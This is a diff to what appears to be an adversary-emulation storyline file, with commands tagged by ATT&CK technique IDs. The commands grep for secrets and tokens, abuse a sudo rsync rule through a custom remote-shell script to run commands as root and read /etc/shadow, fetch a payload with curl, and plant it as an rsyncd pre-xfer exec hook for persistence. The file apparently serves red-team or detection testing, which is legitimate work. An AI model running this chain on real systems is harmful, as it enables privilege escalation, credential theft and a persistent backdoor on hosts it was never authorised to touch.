@@ -116,7 +116,7 @@ T1552.001 cat /opt/stagehand/token; ls /opt/*/*.conf /etc/*.rsyncd 2>/dev/null
 T1083 cat /etc/reports.rsyncd
 ? T1552.001 grep -rsIiE 'secret|passw' /opt --include=*.py --include=*.js | cut -c1-90 | head -5
 == up by rsync | TA0004 | A sudo rule lets rsync copy the site anywhere; its remote shell may be any program.
-T1222.002 printf '#!/bin/sh\nexec 1>&2\nsh /opt/stagehand/site/{word}.cmd\n' > {word}.rsh; chmod 755 {word}.rsh
+T1222.002 printf '#!/bin/sh\nsh /opt/stagehand/site/{word}.cmd 1>&2\n' > {word}.rsh; chmod 755 {word}.rsh
 T1548.003 echo 'id; tail -n 2 /etc/shadow' > {word}.cmd; sudo -n /usr/bin/rsync -a /opt/stagehand/site/\
  -e /opt/stagehand/site/{word}.rsh x:/y
 T1087.001 echo 'getent passwd | grep -v nologin' > {word}.cmd; sudo -n /usr/bin/rsync -a /opt/stagehand/site/\
@@ -128,6 +128,7 @@ T1105 echo 'install -d /usr/libexec/reports; curl -fsS -o /usr/libexec/reports/{
 T1546 @plant /usr/libexec/reports/{file}
 T1546 echo 'sed -i "/shares.rota/a\    pre-xfer exec = /usr/libexec/reports/{file}" /etc/reports.rsyncd' > {word}.cmd;\
  sudo -n /usr/bin/rsync -a /opt/stagehand/site/ -e /opt/stagehand/site/{word}.rsh x:/y
+T1083 tail -n 5 /etc/reports.rsyncd
 T1546 rsync rsync://localhost/rota/ | tail -1
 == letters | TA0009 | Letters are turned into text and packed, by recipes and by the remote shell.
 T1083 ls /srv/shares/letters/sent | tail -4
@@ -212,7 +213,7 @@ STORYLINE = Storyline(
             "POST",
             "/apply?token=stg-7c1fe2",
             '{"name": "rota", "files": {"r{n}.txt": "{word}"}, "steps": ["ls | wc -l", "find . -name \'r*.txt\''
-            ' -mmin +9 -delete", "{pick:date|du -sk .|md5sum r{n}.txt}"]}',
+            ' -mmin +9 -delete", "{pick:date|du -sk .|md5sum r*.txt}"]}',
         ),
     ),
     play=play,
